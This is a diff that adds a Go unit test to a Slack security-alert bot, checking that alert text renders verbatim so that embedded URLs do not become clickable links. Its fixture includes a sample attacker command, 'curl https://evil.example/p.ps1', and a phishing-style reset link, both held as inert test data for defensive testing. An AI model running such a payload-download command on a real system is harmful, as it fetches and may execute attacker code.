@@ -92,6 +92,26 @@ func TestRenderBlocksShapes(t *testing.T) {
 	require.Equal(t, bot.ActAskEntity, actionOf("ask_entity/3"))
 }
 
+// TestMrkdwnIsVerbatim: Slack turns a bare URL in a mrkdwn text into a
+// link unless the text is verbatim, so an address in an alert's title or
+// command line became clickable on a card (the bot links only what it
+// means to: <url|label>, which verbatim text still renders).
+func TestMrkdwnIsVerbatim(t *testing.T) {
+	t.Parallel()
+	blocks, _ := RenderBlocks(bot.Message{
+		Title:    "Beacon",
+		Text:     []bot.Line{{bot.U("visit https://evil.example/reset")}},
+		Fields:   []bot.Field{{Label: "Status", Value: bot.Line{bot.T("new")}}},
+		Sections: []bot.Section{{Title: "Timeline", Lines: []bot.Line{{bot.U("curl https://evil.example/p.ps1")}}}},
+		Footer:   bot.Line{bot.L("Defender", "https://security.microsoft.com/alerts/da1")},
+	})
+	raw, err := json.Marshal(blocks)
+	require.NoError(t, err)
+	n := strings.Count(string(raw), `"type":"mrkdwn"`)
+	require.Positive(t, n)
+	require.Equal(t, n, strings.Count(string(raw), `"verbatim":true`), "every mrkdwn text is verbatim: %s", raw)
+}
+
 func TestRenderModal(t *testing.T) {
 	t.Parallel()
 	f := bot.Form{ID: "conclude", State: "EOD-12", Title: "Conclude EOD-12 with a summary", Fields: []bot.FormField{
